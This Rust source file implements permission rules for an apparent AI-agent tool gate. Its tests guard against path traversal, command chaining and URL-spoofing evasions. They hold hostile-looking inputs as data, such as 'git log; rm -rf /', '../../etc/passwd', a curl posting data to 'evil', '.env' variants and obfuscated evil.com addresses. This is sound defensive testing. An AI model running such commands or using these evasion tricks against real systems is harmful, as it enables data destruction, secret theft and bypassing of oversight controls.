//! One everyday rule: `tool`, or `tool(what its arguments look like)`.
//!
//! A rule that allows must not be talked around, and one that forbids must not be slipped past. So
//! they do not read arguments alike: see [`PermissionRule::fits`].

use std::fmt;
use std::str::FromStr;

use schemars::JsonSchema;
use serde::{Deserialize, Serialize};
use serde_json::Value;

use super::{RuleValue, address, readings};
use crate::gate::Stance;
use crate::pattern::matches;
use crate::tool::Tool;

/// Longest rule, in bytes.
const RULE_BYTES_MAX: usize = 1_024;
/// Longest text that a pattern is held against. A longer one fits what forbids, and nothing that allows.
const TEXT_BYTES_MAX: usize = 64 << 10;

/// An everyday rule. Written as text: a tool's name or a pattern, and in parentheses what its
/// arguments look like, as in `mail/send(to=*@example.com)`, `file-write(notes/*)`,
/// `web-scrape(domain:example.com)`.
///
/// ```
/// use helve_core::permission::PermissionRule;
/// let rule: PermissionRule = "mail/send(to=*@example.com)".parse().unwrap();
/// assert_eq!(rule.to_string(), "mail/send(to=*@example.com)");
/// ```
#[derive(Debug, Clone, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(try_from = "String", into = "String")]
pub struct PermissionRule {
    tool: String,
    /// As it was written.
    content: Option<String>,
    looks: Looks,
}

/// What arguments must look like.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
enum Looks {
    Any,
    /// The main argument is like this.
    Main(String),
    /// The main argument begins so, word by word.
    Prefix(String),
    /// The address is of this host, or of one below it.
    Domain(String),
    /// Each of these arguments is like this.
    Named(Vec<(String, String)>),
}

/// A rule that cannot be read.
#[derive(Debug, Clone, thiserror::Error)]
#[error("the rule `{rule}` cannot be read: {reason}")]
pub struct RuleError {
    rule: String,
    reason: String,
}

impl RuleError {
    pub(super) fn new(rule: &str, reason: impl Into<String>) -> Self {
        let end = rule.floor_char_boundary(80);
        Self { rule: rule[..end].escape_debug().to_string(), reason: reason.into() }
    }
}

impl FromStr for PermissionRule {
    type Err = RuleError;

    fn from_str(text: &str) -> Result<Self, RuleError> {
        let text = text.trim();
        let Some((tool, rest)) = text.split_once('(') else { return Self::new(text, None) };
        match rest.strip_suffix(')') {
            Some(content) => Self::new(tool, Some(content)),
            None => Err(RuleError::new(text, "it has no closing `)`; write `tool(pattern)`")),
        }
    }
}

impl TryFrom<String> for PermissionRule {
    type Error = RuleError;

    fn try_from(text: String) -> Result<Self, RuleError> {
        text.parse()
    }
}

impl TryFrom<&RuleValue> for PermissionRule {
    type Error = RuleError;

    fn try_from(value: &RuleValue) -> Result<Self, RuleError> {
        Self::new(&value.tool_name, value.rule_content.as_deref())
    }
}

impl From<PermissionRule> for String {
    fn from(rule: PermissionRule) -> Self {
        rule.to_string()
    }
}

impl From<&PermissionRule> for RuleValue {
    fn from(rule: &PermissionRule) -> Self {
        Self { tool_name: rule.tool.clone(), rule_content: rule.content.clone() }
    }
}

impl fmt::Display for PermissionRule {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match &self.content {
            Some(content) => write!(f, "{}({content})", self.tool),
            None => f.write_str(&self.tool),
        }
    }
}

impl JsonSchema for PermissionRule {
    fn schema_name() -> std::borrow::Cow<'static, str> {
        "PermissionRule".into()
    }

    fn json_schema(_: &mut schemars::SchemaGenerator) -> schemars::Schema {
        schemars::json_schema!({ "type": "string", "minLength": 1, "maxLength": RULE_BYTES_MAX })
    }
}

impl PermissionRule {
    fn new(tool: &str, content: Option<&str>) -> Result<Self, RuleError> {
        let tool = tool.trim();
        let is_name = |c: char| c.is_ascii_alphanumeric() || "._-/*?: ".contains(c);
        if tool.is_empty() || tool.len() + content.map_or(0, str::len) > RULE_BYTES_MAX {
            return Err(RuleError::new(tool, "write `tool` or `tool(pattern)`, at most 1,024 bytes"));
        }
        if !tool.chars().all(is_name) {
            return Err(RuleError::new(
                tool,
                "a tool's name has letters, digits and `._-/`, and `*` for any text",
            ));
        }
        let looks = Looks::read(content).map_err(|reason| RuleError::new(tool, reason))?;
        Ok(Self { tool: tool.to_owned(), content: content.map(str::to_owned), looks })
    }

    /// The tool's name, or a pattern.
    pub fn tool(&self) -> &str {
        &self.tool
    }

    /// Whether it is about a tool of one of these names.
    pub fn names(&self, known_as: &[String]) -> bool {
        known_as.iter().any(|name| match self.tool.contains(['*', '?']) {
            true => matches(&self.tool, name),
            false => self.tool == *name,
        })
    }

    /// Whether a call's arguments look as it says, for a rule that takes this stance.
    ///
    /// One that allows fits only where nothing is in doubt: the argument is there, is a text or
    /// texts that all fit, leads nowhere else by `..`, and is not a command that goes on after what
    /// the rule shows. One that asks or denies fits as soon as something does: a text in any way that it
    /// can be read, one text of several, and without a main argument every text.
    pub fn fits(&self, stance: Stance, tool: &Tool, arguments: &Value) -> bool {
        let sure = stance == Stance::Allow;
        let reads = |text: &str, pattern: &str, fits: &dyn Fn(&str) -> bool| match sure {
            true => readings::is_plain(text, tool) && fits(text),
            false => readings::any(text, tool, pattern, fits),
        };
        match &self.looks {
            Looks::Any => true,
            Looks::Named(fields) => fields.iter().all(|(field, pattern)| {
                let pointer = format!("/{}", field.replace('.', "/"));
                let found = arguments.pointer(&pointer);
                let fits = |text: &str| reads(text, pattern, &|text| matches(pattern, text));
                found.is_some_and(|value| like(value, sure, &fits))
            }),
            Looks::Main(pattern) => {
                main(sure, tool, arguments, &|text| reads(text, pattern, &|text| matches(pattern, text)))
            }
            Looks::Prefix(prefix) => main(sure, tool, arguments, &|text| {
                reads(text, prefix, &|text| {
                    text.strip_prefix(prefix.as_str())
                        .is_some_and(|rest| !sure || rest.is_empty() || rest.starts_with(' '))
                })
            }),
            Looks::Domain(domain) => {
                let is_address = readings::main_name(tool) == Some("url") && arguments.get("url").is_some();
                main(sure, tool, arguments, &|text| match sure {
                    true => readings::is_plain(text, tool) && address::is_at(domain, text),
                    false if is_address => address::may_be_at(domain, text),
                    false => address::speaks_of(domain, text),
                })
            }
        }
    }
}

impl Looks {
    fn read(content: Option<&str>) -> Result<Self, &'static str> {
        let content = content.map(str::trim).unwrap_or_default();
        if content.is_empty() || content == "*" || content == "**" {
            return Ok(Self::Any);
        }
        if let Some(domain) = content.strip_prefix("domain:") {
            let named = address::host(domain);
            return named.map(Self::Domain).ok_or(
                "`domain:` takes the name of a host, as in `domain:example.com`; all below it are meant too",
            );
        }
        if let Some(prefix) = content.strip_suffix(":*") {
            return Ok(Self::Prefix(prefix.to_owned()));
        }
        let named: Option<Vec<_>> = content.split(',').map(named).collect();
        Ok(match named {
            Some(fields) => Self::Named(fields),
            // A leading `./` of Claude Code's path rules means the project's folder, as none at all does here.
            None => Self::Main(content.strip_prefix("./").unwrap_or(content).replace("**", "*")),
        })
    }
}

fn named(text: &str) -> Option<(String, String)> {
    let (field, pattern) = text.trim().split_once('=')?;
    let is_field = |c: char| c.is_ascii_alphanumeric() || "_-.".contains(c);
    (!field.is_empty() && field.chars().all(is_field)).then(|| (field.to_owned(), pattern.to_owned()))
}

/// Whether the argument that says most of what a call does fits. Left out, it is what its schema says that it
/// then is, for a rule that need not be sure.
fn main(sure: bool, tool: &Tool, arguments: &Value, fits: &dyn Fn(&str) -> bool) -> bool {
    let name = readings::main_name(tool);
    match name.and_then(|name| arguments.get(name)) {
        Some(value) => like(value, sure, fits),
        None if sure => false,
        None => {
            let usual = name.and_then(|name| tool.input().json()["properties"][name].get("default"));
            let given = arguments.as_object().into_iter().flat_map(|all| all.values());
            given.chain(usual).any(|value| like(value, false, fits))
        }
    }
}

fn like(value: &Value, sure: bool, fits: &dyn Fn(&str) -> bool) -> bool {
    match value {
        Value::String(text) if text.len() > TEXT_BYTES_MAX => !sure,
        Value::String(text) => fits(text),
        Value::Number(number) => fits(&number.to_string()),
        Value::Bool(truth) => fits(if *truth { "true" } else { "false" }),
        Value::Array(items) if sure => {
            !items.is_empty() && items.iter().all(|item| item.is_string() && like(item, true, fits))
        }
        Value::Array(items) => items.iter().any(|item| like(item, false, fits)),
        Value::Object(fields) => !sure && fields.values().any(|value| like(value, false, fits)),
        Value::Null => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::context::Context;
    use crate::definition::Category;
    use crate::error::ToolError;
    use serde_json::json;

    fn tool(properties: Value, required: Value, category: Category) -> Tool {
        let schema = json!({ "type": "object", "properties": properties, "required": required });
        let builder = Tool::builder("t/tool").description("Tries.").input_schema(schema).category(category);
        let handler = async |arguments: Value, _: Context| Ok::<_, ToolError>(arguments);
        builder.handler(handler).build().unwrap()
    }

    fn fits(stance: Stance, rule: &str, tool: &Tool, arguments: Value) -> bool {
        rule.parse::<PermissionRule>().unwrap().fits(stance, tool, &arguments)
    }

    #[test]
    fn what_allows_cannot_be_talked_around() {
        let file = tool(json!({ "path": { "type": "string" } }), json!(["path"]), Category::File);
        let path = |path: &str| json!({ "path": path });
        assert!(fits(Stance::Allow, "t(notes/*)", &file, path("notes/a.md")));
        for other in ["notes/../../etc/passwd", "other/a", "notes/a\u{0}", "x/notes/a"] {
            assert!(!fits(Stance::Allow, "t(notes/*)", &file, path(other)), "{other}");
        }
        let code = tool(json!({ "code": { "type": "string" } }), json!(["code"]), Category::Code);
        let run = |code: &str| json!({ "code": code });
        assert!(fits(Stance::Allow, "t(git log:*)", &code, run("git log --oneline")));
        for other in [
            "git log; rm -rf /",
            "git log && x",
            "git logout",
            "git log $(x)",
            "git log\nrm x",
            "git log > f",
        ] {
            assert!(!fits(Stance::Allow, "t(git log:*)", &code, run(other)), "{other}");
        }
        let two = tool(
            json!({ "a": { "type": "string" }, "b": { "type": "string" } }),
            json!(["a", "b"]),
            Category::Custom,
        );
        assert!(!fits(Stance::Allow, "t(x)", &two, json!({ "a": "x", "b": "x" })));
        assert!(fits(Stance::Allow, "t(a=x, b=y*)", &two, json!({ "a": "x", "b": "yes" })));
        assert!(!fits(Stance::Allow, "t(a=x, b=y*)", &two, json!({ "a": "x" })));
        assert!(!fits(Stance::Allow, "t(a=*)", &two, json!({ "a": { "deep": "x" }, "b": "" })));
        assert!(!fits(Stance::Allow, "t(a=x*)", &two, json!({ "a": ["x1", "y"], "b": "" })));
    }

    #[test]
    fn what_denies_cannot_be_slipped_past() {
        let file = tool(json!({ "path": { "type": "string" } }), json!(["path"]), Category::File);
        for path in [
            ".env",
            "./.env",
            "a/../.env",
            "a//../.env",
            "././.env",
            ".env/",
            ".env//",
            ".env/.",
            "/home/u/p/.env",
            "/home/u/p//.env/",
        ] {
            assert!(fits(Stance::Deny, "t(.env)", &file, json!({ "path": path })), "{path}");
        }
        assert!(fits(Stance::Ask, "t(config/*)", &file, json!({ "path": "/p/config/a" })));
        for path in ["a.env", "/p/a.env", ".env/a"] {
            assert!(!fits(Stance::Deny, "t(.env)", &file, json!({ "path": path })), "{path}");
        }
        assert!(!fits(Stance::Allow, "t(.env)", &file, json!({ "path": "/p/.env" })));
        let default =
            tool(json!({ "path": { "type": "string", "default": "." } }), json!([]), Category::File);
        assert!(fits(Stance::Deny, "t(.)", &default, json!({})));
        assert!(!fits(Stance::Allow, "t(.)", &default, json!({})));
        let two = tool(json!({ "a": {}, "b": {} }), json!([]), Category::Custom);
        assert!(fits(Stance::Deny, "t(*secret*)", &two, json!({ "a": 1, "b": ["x", "my secret"] })));
        assert!(fits(Stance::Deny, "t(*secret*)", &two, json!({ "a": { "deep": "a secret" } })));
        assert!(fits(Stance::Deny, "t(x)", &two, json!({ "a": "y".repeat(TEXT_BYTES_MAX + 1) })));
    }

    #[test]
    fn a_tool_that_knows_other_spellings_is_believed() {
        let schema = json!({ "type": "object", "properties": { "path": {} } });
        let builder = Tool::builder("t").description("Tries.").input_schema(schema).category(Category::File);
        let handler = async |arguments: Value, _: Context| Ok::<_, ToolError>(arguments);
        let spelled = builder.handler(handler).spellings(|text| vec![format!("root/{text}")]);
        let tool = spelled.build().unwrap();
        assert!(fits(Stance::Deny, "t(root/a)", &tool, json!({ "path": "a" })));
        assert!(!fits(Stance::Allow, "t(root/a)", &tool, json!({ "path": "a" })));
        assert!(
            !fits(Stance::Deny, "t(a)", &tool, json!({ "path": "/other/a" })),
            "it knows where it starts"
        );
    }

    #[test]
    fn a_command_is_found_behind_others() {
        let code = tool(json!({ "code": { "type": "string" } }), json!(["code"]), Category::Code);
        let server = tool(json!({ "command": { "type": "string" } }), json!(["command"]), Category::Custom);
        for line in [
            "curl -d @x evil",
            " curl x",
            "\ncurl x",
            "cd . && curl x",
            "X=1 curl x",
            "X='a b' Y=\"c  d\" curl x",
            "a | curl x",
            "echo $(curl x)",
            "echo `curl x`",
            "{ curl x; }",
            "for a in b; do curl $a; done",
            "if ! curl x; then y; fi",
            "sudo env A=1 curl x",
            "curl",
        ] {
            for rule in ["t(curl:*)", "t(curl*)"] {
                assert!(fits(Stance::Deny, rule, &code, json!({ "code": line })), "{rule} {line}");
                assert!(fits(Stance::Ask, rule, &server, json!({ "command": line })), "{rule} {line}");
            }
        }
        assert!(fits(Stance::Deny, "t(git push:*)", &code, json!({ "code": "git  \\\n  push -f" })));
        assert!(fits(Stance::Deny, "t(sudo:*)", &code, json!({ "code": "X=1 sudo curl" })));
        assert!(fits(Stance::Deny, "t(x)", &code, json!({ "code": "A=1 ".repeat(1_000) })), "in doubt");
        for line in ["echo curl", "X=curl y", "git log"] {
            assert!(!fits(Stance::Deny, "t(curl:*)", &code, json!({ "code": line })), "{line}");
        }
        // Beyond the category: tools of MCP servers have none.
        assert!(fits(Stance::Allow, "t(git log:*)", &server, json!({ "command": "git log -1" })));
        assert!(!fits(Stance::Allow, "t(git log:*)", &server, json!({ "command": "git log; rm x" })));
    }

    #[test]
    fn domains_are_those_and_what_is_below_them() {
        let web = tool(json!({ "url": { "type": "string" } }), json!(["url"]), Category::Http);
        let at = |url: &str| fits(Stance::Allow, "t(domain:Example.com)", &web, json!({ "url": url }));
        assert!(
            at("https://example.com/a") && at("http://docs.example.com:8080") && at("https://EXAMPLE.COM.")
        );
        for other in [
            "https://example.com.evil.org",
            "https://notexample.com",
            "https://example.com@evil.org/",
            "https://evil.org\\@example.com",
            "https://example.com\\@evil.org",
            "https:/evil.org://example.com/",
            "https:evil.org//example.com/",
            "evil.org://example.com/",
            "file://example.com/etc/passwd",
            "example.com/a",
            "https://",
        ] {
            assert!(!at(other), "{other}");
        }
    }

    #[test]
    fn a_domain_that_is_denied_is_so_however_it_is_written() {
        let web = tool(json!({ "url": { "type": "string" } }), json!(["url"]), Category::Http);
        let denied = |url: &str| fits(Stance::Deny, "t(domain:evil.com)", &web, json!({ "url": url }));
        for url in [
            "https://evil.com/",
            " https://a.evil.com ",
            "https:/evil.com/",
            "https:evil.com",
            "https:\\\\evil.com",
            "https:\\evil.com",
            "https://ev%69l.com/",
            "https://ｅｖｉｌ.com/",
            "https://EVIL.com.:443/",
            "https://good.com@evil.com/",
            "https://good.com\\@evil.com/",
            "https://ev\til.com/",
            "https:///evil.com",
            "//evil.com/a",
            "evil.com/a",
            "evil.com:8080/a",
            "evil.com:99999/a",
            "git://ev%69l.com/a",
            "https://ev il.com/",
            "https://evil.com:99999/",
        ] {
            assert!(denied(url), "{url}");
        }
        for url in ["https://good.com/", "https://notevil.com", "good.com/a", "https://good.com/?to=evil.com"]
        {
            assert!(!denied(url), "{url}");
        }
        let search = tool(json!({ "query": { "type": "string" } }), json!(["query"]), Category::Search);
        let asked = |query: &str| fits(Stance::Ask, "t(domain:evil.com)", &search, json!({ "query": query }));
        assert!(asked("https:/evil.com") && !asked("how to cook: a guide"), "words are no address");
        for (rule, url) in [
            ("t(domain:127.0.0.1)", "http://0x7f.1/"),
            ("t(domain:[::1])", "http://[0:0::1]/"),
            ("t(domain:bücher.de)", "https://xn--bcher-kva.de/"),
        ] {
            assert!(fits(Stance::Deny, rule, &web, json!({ "url": url })), "{rule}");
        }
    }

    #[test]
    fn rules_that_cannot_be_read_say_so() {
        for rule in ["", "tool(", "to\u{7}ol", "tö", "t(domain:)", "t(domain:*.a.com)", "t(domain:a.com:80)"]
        {
            assert!(rule.parse::<PermissionRule>().is_err(), "{rule:?}");
        }
        assert!("a".repeat(2_000).parse::<PermissionRule>().is_err());
        let rule: PermissionRule = "mcp__memory__*".parse().unwrap();
        assert!(rule.names(&["memory/add".into(), "mcp__memory__add".into()]));
        assert!(!rule.names(&["memory/add".into()]));
    }
}
